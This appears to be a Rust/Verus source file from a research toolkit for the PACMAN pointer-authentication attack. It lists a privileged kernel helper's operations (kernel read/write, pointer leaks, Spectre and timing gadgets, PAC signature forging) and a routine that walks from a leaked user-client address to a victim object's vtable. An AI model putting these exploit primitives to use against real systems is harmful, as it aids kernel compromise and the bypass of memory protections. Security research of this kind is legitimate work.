//! Shared protocol knowledge for the privileged kernel helper: the
//! operation selectors its external-method interface understands, and
//! the layout walk that locates the victim objects it exposes.

use vstd::prelude::*;
use crate::oracle::{KernReturn, MemoryOracle};

verus! {

/// Offset in bytes within the victim user client to the helper field.
pub const PACMANKIT_TO_HELPER: u64 = 0xE0;

/// The operations supported by the privileged kernel helper; each is an
/// external-method selector.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum PacmanKitOp {
    KernelBase,
    Read,
    Write,
    KernelVirt2Phys,
    UserVirt2Phys,
    IOUserClientLeak,
    GimmeMemory,
    FreeMemory,
    TellMeRegs,
    ReadForTiming,
    ExecForTiming,
    LeakMethod,
    ReadForSpectre,
    ExecForSpectre,
    CallServiceRoutine,
    ForgeSignData,
    ForgeAuthData,
    ForgeSignInst,
    ForgeAuthInst,
    LeakCurProc,
}

impl PacmanKitOp {
    /// The selector value the kernel helper assigns this operation.
    pub open spec fn spec_selector(self) -> u32 {
        match self {
            PacmanKitOp::KernelBase => 0x00,
            PacmanKitOp::Read => 0x01,
            PacmanKitOp::Write => 0x02,
            PacmanKitOp::KernelVirt2Phys => 0x03,
            PacmanKitOp::UserVirt2Phys => 0x04,
            PacmanKitOp::IOUserClientLeak => 0x05,
            PacmanKitOp::GimmeMemory => 0x06,
            PacmanKitOp::FreeMemory => 0x07,
            PacmanKitOp::TellMeRegs => 0x08,
            PacmanKitOp::ReadForTiming => 0x09,
            PacmanKitOp::ExecForTiming => 0x0A,
            PacmanKitOp::LeakMethod => 0x0B,
            PacmanKitOp::ReadForSpectre => 0x0C,
            PacmanKitOp::ExecForSpectre => 0x0D,
            PacmanKitOp::CallServiceRoutine => 0x0E,
            PacmanKitOp::ForgeSignData => 0x0F,
            PacmanKitOp::ForgeAuthData => 0x10,
            PacmanKitOp::ForgeSignInst => 0x11,
            PacmanKitOp::ForgeAuthInst => 0x12,
            PacmanKitOp::LeakCurProc => 0x13,
        }
    }

    /// The wire value passed to the helper's external-method call.
    pub fn selector(&self) -> (r: u32)
        ensures
            r == self.spec_selector(),
    {
        match self {
            PacmanKitOp::KernelBase => 0x00,
            PacmanKitOp::Read => 0x01,
            PacmanKitOp::Write => 0x02,
            PacmanKitOp::KernelVirt2Phys => 0x03,
            PacmanKitOp::UserVirt2Phys => 0x04,
            PacmanKitOp::IOUserClientLeak => 0x05,
            PacmanKitOp::GimmeMemory => 0x06,
            PacmanKitOp::FreeMemory => 0x07,
            PacmanKitOp::TellMeRegs => 0x08,
            PacmanKitOp::ReadForTiming => 0x09,
            PacmanKitOp::ExecForTiming => 0x0A,
            PacmanKitOp::LeakMethod => 0x0B,
            PacmanKitOp::ReadForSpectre => 0x0C,
            PacmanKitOp::ExecForSpectre => 0x0D,
            PacmanKitOp::CallServiceRoutine => 0x0E,
            PacmanKitOp::ForgeSignData => 0x0F,
            PacmanKitOp::ForgeAuthData => 0x10,
            PacmanKitOp::ForgeSignInst => 0x11,
            PacmanKitOp::ForgeAuthInst => 0x12,
            PacmanKitOp::LeakCurProc => 0x13,
        }
    }
}

/// Walk from the leaked user-client address to the victim object, its
/// vtable pointer, and the vtable's first entry: the object sits a fixed
/// offset into the user client, and each further step is one privileged
/// read.
pub fn find_victim_objects<O: MemoryOracle>(oracle: &mut O) -> (r: Result<
    (u64, u64, u64, u64),
    KernReturn,
>)
    ensures
        r is Ok ==> r->Ok_0.1 == vstd::wrapping::u64_specs::wrapping_add(
            r->Ok_0.0,
            PACMANKIT_TO_HELPER,
        ),
{
    let victim_user_client = match oracle.get_handle_loc() {
        Ok(v) => v,
        Err(kr) => {
            return Err(kr);
        },
    };
    let victim_object = victim_user_client.wrapping_add(PACMANKIT_TO_HELPER);
    let victim_vtable = match oracle.kernel_read(victim_object) {
        Ok(v) => v,
        Err(kr) => {
            return Err(kr);
        },
    };
    let victim_vtable_entry = match oracle.kernel_read(victim_vtable) {
        Ok(v) => v,
        Err(kr) => {
            return Err(kr);
        },
    };
    Ok((victim_user_client, victim_object, victim_vtable, victim_vtable_entry))
}

} // verus!
